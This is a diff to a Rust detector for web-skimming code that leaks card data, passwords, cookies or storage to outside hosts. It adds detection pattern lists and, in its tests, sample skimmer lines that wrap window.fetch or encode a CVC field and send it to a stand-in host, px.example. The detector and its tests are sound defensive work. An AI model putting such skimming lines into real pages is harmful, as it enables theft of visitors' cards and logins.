@@ -1,7 +1,9 @@
 //! Code of a page or a shop that sends what its visitors type, their cards and passwords, to a machine that has no part in it.
 
+use std::cell::LazyCell;
+
 use super::leaks::elsewhere;
-use super::source::{Written, is_comment};
+use super::source::{Written, dense, is_comment};
 use crate::policy::lists::{holds, parts};
 use crate::policy::spans;
 
@@ -16,6 +18,16 @@ const SENDS: &str = "fetch(|axios.post(|axios.get(|axios(|$.post(|$.get(|$.ajax(
 /// What nobody but whoever is paid, or whoever signs somebody in, needs; in small letters.
 const CARD: &str = "cvc|cvv|securitycode|security_code|cardnumber|card_number|card.number|card-number|ccnum|card[number]|cardpin|\
     card.pan|.pan,|iban|password|passwd|passphrase|.otp|one-time-code|seedphrase|mnemonic|privatekey|pincode|creditcard";
+
+/// Who somebody is to a site, as a page or what stands before it is told; in small letters.
+const KEPT: &str = "get('authorization')|get(\"authorization\")|get('cookie')|get(\"cookie\")|document.cookie|...localstorage|stringify(localstorage|\
+    entries(localstorage|...sessionstorage|stringify(sessionstorage|headers.authorization";
+
+/// What all requests of a page go through, and what is told of them by whoever stands there, without blanks.
+const WRAPS: &str = "window.fetch=|globalThis.fetch=|self.fetch=|XMLHttpRequest.prototype.send=|interceptors.request.use(|HTMLFormElement.prototype.submit=";
+const BODIES: &str = ".body|arguments[0]|config.data|req.data|cfg.data";
+const BODY: &str = "(body|+body|,body|:body|{body";
+const OWN: &str = "const body|let body|var body";
 
 /// Whose business payments are: a number may go there.
 const PAID: &str = "stripe.|braintree|adyen|paypal|square|checkout.com|mollie|authorize.net|worldpay|cybersource|klarna|razorpay|spreedly|recurly|\
@@ -33,19 +45,27 @@ pub(super) fn are_put_in(written: &Written<'_>) -> bool {
 }
 
 fn sends(text: &str) -> bool {
+    let wraps = LazyCell::new(|| holds(text, "fetch =|prototype|interceptors") && holds(&dense(text), WRAPS));
+    let gives = |at: usize, held: bool| gives(text, at, held, *wraps);
     let at = |list: &'static str| parts(list).flat_map(|call| text.match_indices(call).take(super::MAX_PLACES));
-    at(UNHEARD).any(|(at, call)| gives(text, at + call.len(), true))
-        || at(SENDS).any(|(at, call)| gives(text, at + call.len(), false) && is_unanswered(text, at))
+    let is_copy = |at: usize| holds(&text[at..text.floor_char_boundary(at + NEAR)], "no-cors|keepalive");
+    at(UNHEARD).any(|(at, call)| gives(at + call.len(), true))
+        || at(SENDS).any(|(at, call)| gives(at + call.len(), is_copy(at)) && is_unanswered(text, at))
 }
 
 /// Whether the arguments of a call name another machine and what somebody typed; or, where `held` counts, a name that was given to it
 /// shortly before.
-fn gives(text: &str, from: usize, held: bool) -> bool {
+fn gives(text: &str, from: usize, held: bool, wraps: bool) -> bool {
     let behind = spans::behind(text, from, NEAR);
     let end = behind.find(";\n").unwrap_or(behind.len());
     let given = &behind[..end];
     let host = given.split_once("//").and_then(|(_, url)| elsewhere(url));
-    host.is_some_and(|host| !holds(&host, PAID)) && (names_card(given) || held && names_held(text, from, given))
+    let hands_on = || {
+        let given = dense(given).replace("body:", "").replace("document.body", "");
+        holds(&given, BODIES) || holds(&given, BODY) && !holds(text, OWN)
+    };
+    host.is_some_and(|host| !holds(&host, PAID))
+        && (names_card(given) || wraps && hands_on() || held && names_held(text, from, given))
 }
 
 /// Whether one of the names in what is given was made of what somebody typed: `const b = btoa(card.value)`.
@@ -65,7 +85,7 @@ fn names_held(text: &str, from: usize, given: &str) -> bool {
 /// Whether a text names what is on a card, or a password; the field of a form alone tells nothing.
 fn names_card(text: &str) -> bool {
     let lower = text.to_ascii_lowercase();
-    holds(&lower, CARD)
+    (holds(&lower, CARD) || holds(&lower, KEPT))
         && !holds(&lower, "last4|masked|passwordreset|password_reset|password-reset|haspassword|nopassword")
 }
 
@@ -107,6 +127,11 @@ mod tests {
             ("navigator.sendBeacon('https://px.example/c', JSON.stringify({ page: location.pathname }));", false),
             ("const b = btoa(f.cvc.value);\nnew Image().src = 'https://px.example/p?v=' + b;", true),
             ("const b = btoa(f.page.value);\nnew Image().src = 'https://px.example/p?v=' + b;", false),
+            (
+                "window.fetch = (i, o) => { navigator.sendBeacon('https://px.example/c', i + o.body); return f(i, o); };",
+                true,
+            ),
+            ("window.fetch = (i, o) => { navigator.sendBeacon('https://px.example/c', i); return f(i, o); };", false),
             ("navigator.sendBeacon('/metrics', JSON.stringify({ cvc: v.cvc }));", false),
             ("fetch('https://api.stripe.com/v1/tokens', { body: new URLSearchParams({ 'card[cvc]': cvc }) });", false),
         ] {
